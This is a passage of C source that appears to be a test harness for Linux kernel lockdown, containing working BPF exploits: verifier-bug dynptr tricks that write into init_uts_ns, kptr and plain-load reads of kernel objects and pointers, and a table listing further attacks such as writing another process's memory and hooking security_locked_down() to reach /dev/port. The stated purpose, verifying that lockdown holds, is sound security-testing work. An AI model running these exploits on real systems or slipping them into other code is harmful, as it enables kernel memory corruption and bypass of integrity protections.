		for (size_t i = 0; i < sizeof(s->bss->frame_words) / sizeof(uint64_t); i++)
			if (s->bss->frame_words[i] >> 63) {
				pointers++;
				last = s->bss->frame_words[i];
			}
		if (pointers)
			shown(o, "%lu kernel pointers in a frame gone, through a slice its "
			      "subprogram returned, the last 0x%llx", pointers,
			      (unsigned long long)last);
		else
			failed(o, "the slice read no kernel pointer");
		goto out;
	}
	memcpy(&orig, before.nodename, sizeof(orig));
	memcpy(&mark, "ldpslice", sizeof(mark));
	s->bss->poke_addr = uts + name + node;
	s->bss->poke_val = mark;
	if (slice_run(prog, o))
		goto out;
	if (uname(&after)) {
		failed(o, "uname: %s", strerror(errno));
		goto out;
	}
	s->bss->poke_val = orig;
	if (slice_run(prog, o))
		goto out;
	if (!strncmp(after.nodename, "ldpslice", 8))
		shown(o, "a store through the pointer the verifier took for the map value "
		      "it spilled: init_uts_ns's nodename was '%.8s' (put back)", after.nodename);
	else
		failed(o, "nodename '%.20s' after the store", after.nodename);
out:
	attack_btf__destroy(s);
	btf__free(btf);
}

/* 6.1's struct bpf_dynptr_kern: size in the low 28 bits, type above */
#define DV_TYPE_LOCAL	(1ULL << 28)

/* Run the socket filter @prog once: 0, or -1 with @o set. */
static int socket_run(struct bpf_program *prog, struct aresult *o)
{
	unsigned char pkt[64] = { 0 };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt));
	int err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);

	if (err) {
		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(socket)");
		return -1;
	}
	return 0;
}

/*
 * bpf-dynptr-varoff: a dynptr made at a stack offset whose variable part
 * the verifier does not place (6.1): the slot it marks holds a dynptr of
 * the program's own, over init_uts_ns's nodename, and bpf_dynptr_write()
 * through it stores there (a red team's, on Debian 12's kernel with the
 * BPF backend, under integrity and confidentiality). The bytes are put
 * back.
 */
static void run_dynptr_varoff(struct aresult *o, int argc, char **argv)
{
	struct attack_btf *s = NULL;
	struct btf *btf;
	struct utsname before, after;
	uint64_t uts, orig, mark;
	long name, node;
	int err;

	(void)argc;
	(void)argv;
	btf = btf__load_vmlinux_btf();
	if (!btf) {
		unavailable(o, "no kernel BTF (/sys/kernel/btf/vmlinux)");
		return;
	}
	name = btf_member_offset(btf, "uts_namespace", "name");
	node = btf_member_offset(btf, "new_utsname", "nodename");
	if (name < 0 || node < 0 || ksym("init_uts_ns", &uts) || uname(&before)) {
		failed(o, "init_uts_ns's nodename: not in the kernel's BTF or /proc/kallsyms");
		goto out;
	}
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		goto out;
	}
	err = load_only(s->skeleton, s->progs.dynptr_varoff, NULL);
	if (err) {
		/* 6.2 on: "R4 cannot pass in dynptr at an offset=..." or the like */
		load_outcome(o, err, strstr(libbpf_log, "dynptr"));
		goto out;
	}
	memcpy(&orig, before.nodename, sizeof(orig));
	memcpy(&mark, "ldpdynvo", sizeof(mark));
	s->bss->dv_var = 16;
	s->bss->dv_word = sizeof(mark) | DV_TYPE_LOCAL;
	s->bss->poke_addr = uts + name + node;
	s->bss->poke_val = mark;
	if (socket_run(s->progs.dynptr_varoff, o))
		goto out;
	if (uname(&after)) {
		failed(o, "uname: %s", strerror(errno));
		goto out;
	}
	s->bss->poke_val = orig;
	if (socket_run(s->progs.dynptr_varoff, o))
		goto out;
	if (!strncmp(after.nodename, "ldpdynvo", 8))
		shown(o, "bpf_dynptr_write() through the slot the verifier marked, a dynptr of "
		      "the program's own: init_uts_ns's nodename was '%.8s' (put back)",
		      after.nodename);
	else
		failed(o, "nodename '%.20s' after the store (bpf_dynptr_write(): %ld)",
		       after.nodename, (long)s->bss->dv_ret);
out:
	attack_btf__destroy(s);
	btf__free(btf);
}

/*
 * bpf-kptr [keep|kept]: a map whose value holds a kptr to a task (its BTF
 * made here: the "kptr" tag on the pointer), PID 1's task stored there
 * by a tc program with bpf_task_from_pid() and bpf_kptr_xchg(), then read
 * through it by another with plain loads (attack_btf.bpf.c). "keep" pins
 * the map once shown, at KPTR_PIN; "kept" stores nothing: it reads
 * through the map pinned there (and unpins it), so that a program loaded
 * once the policy denies LOCKDOWN_BPF_READ_KERNEL reads what one stored
 * before.
 */
#define KPTR_PIN "/sys/fs/bpf/ldattack_kptr"

/* The map: its fd, or -1 with errno set. */
static int kptr_map_create(void)
{
	LIBBPF_OPTS(bpf_map_create_opts, mo);
	struct btf *b = btf__new_empty();
	int u32, task, tag, ptr, val, fd = -1, err = ENOMEM;

	if (!b)
		return -1;
	u32 = btf__add_int(b, "unsigned int", 4, 0);
	/* its name is what the kernel looks up in its own BTF */
	task = btf__add_struct(b, "task_struct", 8);
	tag = btf__add_type_tag(b, "kptr", task);
	ptr = btf__add_ptr(b, tag);
	val = btf__add_struct(b, "kp_val", 8);
	if (u32 < 0 || task < 0 || tag < 0 || ptr < 0 || val < 0 ||
	    btf__add_field(b, "t", ptr, 0, 0)) {
		err = EINVAL;
		goto out;
	}
	if (btf__load_into_kernel(b)) {
		err = errno;
		goto out;
	}
	mo.btf_fd = btf__fd(b);
	mo.btf_key_type_id = u32;
	mo.btf_value_type_id = val;
	fd = bpf_map_create(BPF_MAP_TYPE_ARRAY, "ldattack_kptr", 4, 8, 1, &mo);
	err = errno;
out:
	btf__free(b);
	errno = err;
	return fd;
}

/* Load @prog of @s alone, on the map @fd, and run it: 0, or -1 with @o set. */
static int kptr_run(struct attack_btf *s, struct bpf_program *prog, int fd, struct aresult *o)
{
	unsigned char pkt[64] = { 0 };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt));
	int err = -bpf_map__reuse_fd(s->maps.kp_map, fd);

	if (err) {
		failed(o, "use the map: %s", strerror(err));
		return -1;
	}
	err = load_only(s->skeleton, prog, NULL);
	if (err) {
		/* our kernels' verifier: "... which lockdown refuses (LOCKDOWN_...)" */
		load_outcome(o, err, strstr(libbpf_log, "lockdown refuses"));
		return -1;
	}
	err = bpf_prog_test_run_opts(bpf_program__fd(prog), &opts);
	if (err) {
		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(tc)");
		return -1;
	}
	if (opts.retval != 1) {
		failed(o, "%s returned %u: %s", bpf_program__name(prog), opts.retval,
		       prog == s->progs.kptr_put ? "bpf_task_from_pid(1) found no task" :
		       "the map held no task");
		return -1;
	}
	return 0;
}

static void run_kptr(struct aresult *o, int argc, char **argv)
{
	const char *mode = argc > 0 ? argv[0] : "";
	bool keep = !strcmp(mode, "keep"), kept = !strcmp(mode, "kept");
	struct attack_btf *s = NULL;
	int fd;

	if (*mode && !keep && !kept) {
		failed(o, "no such mode: %s (keep, kept)", mode);
		return;
	}
	if (!kernel_has_kfunc("bpf_task_from_pid")) {
		unavailable(o, "no bpf_task_from_pid() in this kernel (6.2 on)");
		return;
	}
	fd = kept ? bpf_obj_get(KPTR_PIN) : kptr_map_create();
	if (fd < 0) {
		if (kept)
			failed(o, "no map kept at " KPTR_PIN ": %s", strerror(errno));
		else
			errno_outcome(o, errno, "a map whose value holds a kptr");
		return;
	}
	if (kept)
		unlink(KPTR_PIN);
	if (!kept) {
		s = attack_btf__open();
		if (!s) {
			failed(o, "open the BPF object: %s", strerror(errno));
			goto out;
		}
		if (kptr_run(s, s->progs.kptr_put, fd, o))
			goto out;
		attack_btf__destroy(s);
	}
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		goto out;
	}
	if (kptr_run(s, s->progs.kptr_read, fd, o))
		goto out;
	if (s->bss->kp_pid != 1) {
		failed(o, "the task read has pid %d", s->bss->kp_pid);
		goto out;
	}
	shown(o, "a tc program read PID 1's task with plain loads, through the kptr a map "
	      "held%s: pid 1, comm '%.16s'", kept ? " since before this program" : "",
	      s->bss->kp_comm);
	if (keep && bpf_obj_pin(fd, KPTR_PIN))
		failed(o, "keep the map at " KPTR_PIN ": %s", strerror(errno));
out:
	attack_btf__destroy(s);
	close(fd);
}

/*
 * bpf-map-fields: a tc program reads its own array map's struct bpf_map
 * (attack_btf.bpf.c): its ops, which must be array_map_ops's address.
 */
static void run_map_fields(struct aresult *o, int argc, char **argv)
{
	unsigned char pkt[64] = { 0 };
	LIBBPF_OPTS(bpf_test_run_opts, opts, .data_in = pkt, .data_size_in = sizeof(pkt));
	struct attack_btf *s;
	uint64_t ops;
	int err;

	(void)argc;
	(void)argv;
	if (ksym("array_map_ops", &ops)) {
		failed(o, "array_map_ops: not in /proc/kallsyms");
		return;
	}
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		return;
	}
	err = load_only(s->skeleton, s->progs.map_fields, NULL);
	if (err) {
		/* "'struct bpf_array' access is allowed only to CAP_PERFMON ..." */
		load_outcome(o, err, strstr(libbpf_log, "access is allowed only"));
		goto out;
	}
	err = bpf_prog_test_run_opts(bpf_program__fd(s->progs.map_fields), &opts);
	if (err)
		errno_outcome(o, -err, "BPF_PROG_TEST_RUN(tc)");
	else if (opts.retval != 1 || s->bss->mf_ops != ops)
		failed(o, "the program read 0x%llx, array_map_ops is at 0x%llx",
		       (unsigned long long)s->bss->mf_ops, (unsigned long long)ops);
	else
		shown(o, "a tc program read its own map's struct bpf_map with plain loads: its "
		      "ops, array_map_ops, at 0x%llx", (unsigned long long)ops);
out:
	attack_btf__destroy(s);
}

/*
 * bpf-arg-trusted: a cgroup/connect4 program on the root cgroup (a
 * cgroup2 mount of our own), run by a TCP connect to a listener on
 * 127.0.0.1: its global subprograms, their arguments tagged trusted, read
 * the socket's proto's name (attack_btf.bpf.c). Shown: "TCP", tcp_prot's.
 */
static void run_arg_trusted(struct aresult *o, int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET,
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t al = sizeof(a);
	struct attack_btf *s = NULL;
	struct bpf_link *link = NULL;
	struct utsname u;
	int major = 0, minor = 0, cg = -1, ctx, ls = -1, cs = -1, err;

	(void)argc;
	(void)argv;
	/* an argument tagged trusted: 6.8's */
	if (uname(&u) || sscanf(u.release, "%d.%d", &major, &minor) != 2 ||
	    major < 6 || (major == 6 && minor < 8)) {
		unavailable(o, "no global subprogram arguments tagged trusted before Linux 6.8 "
			    "(this is %s)", u.release);
		return;
	}
	ctx = syscall(SYS_fsopen, "cgroup2", 0);
	if (ctx < 0 || syscall(SYS_fsconfig, ctx, FSCONFIG_CMD_CREATE, NULL, NULL, 0) ||
	    (cg = syscall(SYS_fsmount, ctx, 0, 0)) < 0) {
		failed(o, "a cgroup2 mount: %s", strerror(errno));
		if (ctx >= 0)
			close(ctx);
		return;
	}
	close(ctx);
	s = attack_btf__open();
	if (!s) {
		failed(o, "open the BPF object: %s", strerror(errno));
		goto out;
	}
	err = load_only(s->skeleton, s->progs.arg_trusted, NULL);
	if (err) {
		/* our kernels: "... which lockdown refuses (LOCKDOWN_BPF_READ_KERNEL)" */
		load_outcome(o, err, strstr(libbpf_log, "lockdown refuses"));
		goto out;
	}
	link = bpf_program__attach_cgroup(s->progs.arg_trusted, cg);
	if (!link) {
		errno_outcome(o, errno, "attach cgroup/connect4 to the root cgroup");
		goto out;
	}
	lo_up();
	ls = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	cs = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (ls < 0 || cs < 0 || bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 1) ||
	    getsockname(ls, (struct sockaddr *)&a, &al) ||
	    connect(cs, (struct sockaddr *)&a, sizeof(a))) {
		failed(o, "a TCP connection on 127.0.0.1: %s", strerror(errno));
		goto out;
	}
	if (!s->bss->at_hits)
		failed(o, "the program saw no TCP socket");
	else if (strncmp(s->bss->at_name, "TCP", 4))
		failed(o, "the socket's proto is named '%.8s'", s->bss->at_name);
	else
		shown(o, "a cgroup/connect4 program read the kernel's tcp_prot with plain loads, "
		      "through global subprograms' arguments tagged trusted: name '%s'",
		      s->bss->at_name);
out:
	if (cs >= 0)
		close(cs);
	if (ls >= 0)
		close(ls);
	bpf_link__destroy(link);
	attack_btf__destroy(s);
	close(cg);
}

const struct attack attacks_bpf[] = {
	{ "bpf-read-kernel", "a syscall program's bpf_probe_read_kernel() of linux_banner",
	  run_read_kernel },
	{ "bpf-printf", "a syscall program's bpf_snprintf(\"%s\") of linux_banner's address",
	  run_printf },
	{ "bpf-write-user", "bpf_probe_write_user() into another process, from sched_switch",
	  run_write_user },
	{ "bpf-perf-regs", "a perf_event program reading the registers of kernel samples",
	  run_perf_regs },
	{ "bpf-kprobe-multi", "a kprobe_multi program reading the registers at a kernel "
	  "function's entry", run_kprobe_multi },
	{ "bpf-kprobe-regs", "a kprobe program on a kprobe perf event reading the registers at "
	  "a kernel function's entry", run_kprobe_regs },
	{ "bpf-uninit-stack", "a socket filter handing a helper stack it never wrote",
	  run_uninit_stack },
	{ "bpf-fentry-args", "an fentry program seeing a kernel function's argument",
	  run_fentry_args },
	{ "bpf-raw-tp", "a raw tracepoint program on sched_switch", run_raw_tp },
	{ "bpf-tp-record", "a tracepoint program reading a trace event's records through perf",
	  run_tp_record },
	{ "bpf-sys-bpf", "a syscall program's bpf_sys_bpf(BPF_MAP_UPDATE_ELEM) from linux_banner",
	  run_sys_bpf },
	{ "bpf-btf-read", "BTF pointer loads and bpf_rdonly_cast() in a task iterator",
	  run_btf_read },
	{ "bpf-fmod-ret", "fmod_ret on security_locked_down() returning 1 << 32, then /dev/port",
	  run_fmod_ret },
	{ "bpf-dynptr-slice", "a writable dynptr slice of a stack buffer rewriting a spilled "
	  "pointer: a store to init_uts_ns", run_dynptr_slice },
	{ "bpf-dynptr-varoff", "a dynptr at a stack offset the verifier places by its constant "
	  "part: a store to init_uts_ns", run_dynptr_varoff },
	{ "bpf-kptr", "a task's kptr in a map, read with plain loads by a program loaded "
	  "after", run_kptr },
	{ "bpf-map-fields", "a program's plain loads from its own map's struct bpf_map",
	  run_map_fields },
	{ "bpf-arg-trusted", "a TCP socket's proto read through global subprograms' arguments "
	  "tagged trusted", run_arg_trusted },
	{ 0 }
};
